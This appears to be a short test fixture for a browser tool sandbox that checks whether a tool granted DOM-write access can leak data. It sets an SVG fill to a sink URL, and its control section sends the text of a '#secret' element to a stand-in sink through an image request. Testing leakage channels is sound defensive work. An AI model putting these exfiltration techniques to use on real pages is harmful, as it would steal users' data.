//! guest = "tool"
//! promise = "dom-write-table"
//! capabilities = ["dom:read", "dom:write"]
await btcp.dom.setAttribute("#shape", "fill", `url(${args.sink}/fill#x)`).catch((error) => error.name);
return "written";
// --- page
const said = stage.outcome(await stage.tool());
document.getElementById("picture").removeAttribute("alt");
document.getElementById("form").addEventListener("submit", (event) => event.preventDefault());
await stage.wait(250);
return said;
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
